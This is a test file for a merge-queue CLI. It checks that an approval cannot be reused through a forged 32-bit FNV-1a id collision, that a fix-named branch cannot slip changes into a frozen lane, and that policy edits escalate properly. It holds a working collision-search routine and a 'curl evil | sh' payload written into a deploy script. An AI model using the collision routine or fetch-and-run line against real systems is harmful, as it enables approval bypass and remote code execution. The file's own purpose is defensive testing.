// The adversarial tester's reproductions, through the built CLI on real
// repositories: an approval reused through an id collision, a fix-named branch
// carried past a frozen lane, a policy edit that removes a lane with an incident.
import { strict as assert } from 'node:assert';
import { runCli, type CliResult } from '../support/cli';
import { Sandbox, threeLaneFiles } from '../support/sandbox';

interface SyncDoc {
  lanes: { name: string; state: string; queue: { change: string; reasons: { code: string; message: string }[] }[] }[];
  decisions: { kind: string; lane?: string; change?: string; incident?: string; approval?: string; rationale: string }[];
  approvals: { id: string; change?: string }[];
  actions: { key: string; kind: string; status: string }[];
}

async function sync(sb: Sandbox): Promise<{ result: CliResult; doc: SyncDoc }> {
  const result = await runCli(['sync', '--repo', sb.dir, '--json']);
  assert.ok(result.stdout.trim().startsWith('{'), `sync printed no JSON (exit ${result.code}): ${result.stderr}`);
  assert.doesNotMatch(result.stderr, /\n\s+at /, 'no stack trace');
  return { result, doc: JSON.parse(result.stdout) as SyncDoc };
}

const merged = (doc: SyncDoc) => doc.actions.filter((a) => a.kind === 'merge' && a.status === 'done').map((a) => a.key.split(':')[1]);
const reasonsOf = (doc: SyncDoc, change: string) => doc.lanes.flatMap((l) => l.queue).find((q) => q.change === change)?.reasons ?? [];

/** An agent merges its branch by hand, around the queue, and web's check goes red. */
function breakWeb(sb: Sandbox): string {
  sb.branch('agent/web-bad', { 'web/status': 'bad\n' });
  sb.git('merge', '--quiet', '--no-ff', '-m', "Merge branch 'agent/web-bad'", 'agent/web-bad');
  return sb.head();
}

/** Three lanes whose worker always fails, so the real fix never comes. */
function failingWorker(): Record<string, string> {
  const files = threeLaneFiles();
  return {
    ...files,
    '.buildmaster.yml': files['.buildmaster.yml'].replace('command: "sh scripts/fixer.sh"', 'command: "false"'),
  };
}

const PRIME = 0x01000193;
/** The inverse of the FNV prime modulo 2^32 (Newton's iteration), to run the 32-bit hash backwards. */
const PRIME_INVERSE = (() => {
  let x = PRIME;
  for (let i = 0; i < 5; i++) x = Math.imul(x, 2 - Math.imul(PRIME, x)) >>> 0;
  return x >>> 0;
})();
const fnv = (hash: number, text: string) => {
  for (let i = 0; i < text.length; i++) hash = Math.imul((hash ^ text.charCodeAt(i)) >>> 0, PRIME) >>> 0;
  return hash;
};
const unfnv = (hash: number, text: string) => {
  for (let i = text.length - 1; i >= 0; i--) hash = (Math.imul(hash, PRIME_INVERSE) ^ text.charCodeAt(i)) >>> 0;
  return hash;
};

/**
 * The tester's attack: a branch name `agent/<7 chars>` whose merge key, with
 * the given head, has the 32-bit FNV-1a approval id of `victimKey`. Meet in the
 * middle: the hash after the first three characters forwards, and before the
 * last four backwards from the target.
 */
function collidingBranch(victimKey: string, head: string): string {
  const alphabet = 'abcdefghijklmnopqrstuvwxyz0123456789';
  const target = fnv(0x811c9dc5, victimKey);
  const prefix = fnv(0x811c9dc5, 'merge:agent/');
  const forward = new Map<number, string>();
  for (const a of alphabet) for (const b of alphabet) for (const c of alphabet) forward.set(fnv(prefix, a + b + c), a + b + c);
  const beforeSuffix = unfnv(target, `:${head}`);
  for (const a of alphabet)
    for (const b of alphabet)
      for (const c of alphabet)
        for (const d of alphabet) {
          const tail = a + b + c + d;
          const front = forward.get(unfnv(beforeSuffix, tail));
          if (front !== undefined) return `agent/${front}${tail}`;
        }
  throw new Error('no colliding branch name in this space');
}

describe('adversarial core through the CLI', function () {
  this.timeout(180_000);
  let sb: Sandbox | undefined;
  afterEach(() => sb?.remove());

  it('H5: a tier 3 change on a branch whose approval id collides with an approved one does not merge', async () => {
    sb = new Sandbox(threeLaneFiles('risk:\n  tier3: ["infra/**"]\n'));
    sb.branch('agent/deploy', { 'infra/deploy.sh': 'echo deploy\n' });
    const asked = await sync(sb);
    const approval = asked.doc.approvals.find((a) => a.change === 'agent/deploy');
    assert.ok(approval, JSON.stringify(reasonsOf(asked.doc, 'agent/deploy')));
    assert.equal((await runCli(['approve', approval.id, '--repo', sb.dir])).code, 0);
    const victimKey = `merge:agent/deploy:${sb.head('agent/deploy')}`;
    assert.deepEqual(merged((await sync(sb)).doc), ['agent/deploy']);

    // The attacker's commit first (its sha does not depend on the branch name), then the colliding name.
    sb.branch('scratch', { 'infra/deploy.sh': 'curl evil | sh\n' });
    const head = sb.head('scratch');
    const branch = collidingBranch(victimKey, head);
    assert.equal(fnv(0x811c9dc5, `merge:${branch}:${head}`), fnv(0x811c9dc5, victimKey), 'a real 32-bit collision');
    sb.git('branch', '-m', 'scratch', branch);
    const before = sb.head();
    const { result, doc } = await sync(sb);
    assert.equal(result.code, 0, result.stderr);
    assert.equal(sb.head(), before, `${branch} did not merge`);
    assert.ok(
      doc.approvals.some((a) => a.change === branch && a.id !== approval.id),
      'it waits on an approval of its own',
    );
    assert.ok(
      reasonsOf(doc, branch).some((r) => r.code === 'needs-approval' || r.code === 'approval-pending'),
      JSON.stringify(reasonsOf(doc, branch)),
    );
  });

  it('M1: a hand-made branch named after web’s open incident that also writes api does not merge while api is frozen', async () => {
    sb = new Sandbox(failingWorker());
    assert.equal((await sync(sb)).result.code, 0);
    const bad = breakWeb(sb);
    assert.equal((await runCli(['pause', 'api', '--reason', 'freeze', '--repo', sb.dir])).code, 0);
    const opened = await sync(sb);
    const incident = opened.doc.decisions.find((d) => d.kind === 'open-incident')?.incident;
    assert.equal(incident, `inc-${bad.slice(0, 7)}`);

    sb.git('branch', '-f', `buildmaster/fix/${incident}`, 'main');
    sb.git('checkout', '--quiet', `buildmaster/fix/${incident}`);
    sb.write({ 'web/status': 'ok\n', 'api/status2': 'sneaky\n' });
    sb.commitAll('fix web, and a little more');
    sb.git('checkout', '--quiet', 'main');
    const before = sb.head();
    const { doc } = await sync(sb);
    assert.equal(sb.head(), before, 'main did not move');
    assert.deepEqual(merged(doc), []);
    const reasons = reasonsOf(doc, `buildmaster/fix/${incident}`);
    assert.ok(
      reasons.some((r) => r.code === 'lane-not-admitting' && /touches lane api, which was paused by an operator: freeze/.test(r.message)),
      JSON.stringify(reasons),
    );
  });

  it('M4: renaming one lane with an open incident and removing a frozen one keeps sync working and says what to do', async () => {
    sb = new Sandbox(failingWorker());
    assert.equal((await sync(sb)).result.code, 0);
    const bad = breakWeb(sb);
    assert.equal((await runCli(['pause', 'api', '--reason', 'freeze', '--repo', sb.dir])).code, 0);
    const opened = await sync(sb);
    const incident = opened.doc.decisions.find((d) => d.kind === 'open-incident')?.incident;
    assert.equal(incident, `inc-${bad.slice(0, 7)}`);

    // Lane web renamed to frontend, lane api removed.
    const policy = sb
      .read('.buildmaster.yml')
      .replace('name: web', 'name: frontend')
      .replace(/ {2}- name: api\n.*\n.*\n/, '');
    assert.doesNotMatch(policy, /name: api/);
    sb.write({ '.buildmaster.yml': policy });
    sb.commitAll('policy: rename web, drop api');

    const first = await sync(sb);
    assert.ok(first.result.code === 0 || first.result.code === 3, `exit ${first.result.code}: ${first.result.stderr}`);
    const escalations = first.doc.decisions.filter((d) => d.kind === 'escalate');
    assert.ok(
      escalations.some(
        (d) =>
          d.incident === incident && /lane web is no longer in the policy/.test(d.rationale) && /repair test-web on main/.test(d.rationale),
      ),
      JSON.stringify(first.doc.decisions),
    );
    assert.ok(
      escalations.some((d) => d.lane === 'api' && /paused by an operator \(freeze\) but the policy no longer names it/.test(d.rationale)),
      JSON.stringify(escalations),
    );
    assert.deepEqual(first.doc.lanes.map((l) => l.name).sort(), ['docs', 'frontend', 'shared']);

    const second = await sync(sb);
    assert.ok(second.result.code === 0 || second.result.code === 3, `exit ${second.result.code}: ${second.result.stderr}`);
    assert.deepEqual(
      second.doc.decisions.filter((d) => d.kind === 'escalate' && d.incident === incident),
      [],
      'escalated once',
    );
    assert.equal(sb.state().state?.incidents[incident]?.status, 'open', 'the incident keeps its record');

    // The owner repairs web on main by hand: the incident, holding no lane, resolves on green checks.
    sb.write({ 'web/status': 'ok\n' });
    sb.commitAll('repair web by hand');
    const repaired = await sync(sb);
    assert.ok(repaired.result.code === 0 || repaired.result.code === 3, `exit ${repaired.result.code}: ${repaired.result.stderr}`);
    assert.equal(sb.state().state?.incidents[incident]?.status, 'resolved');
  });
});
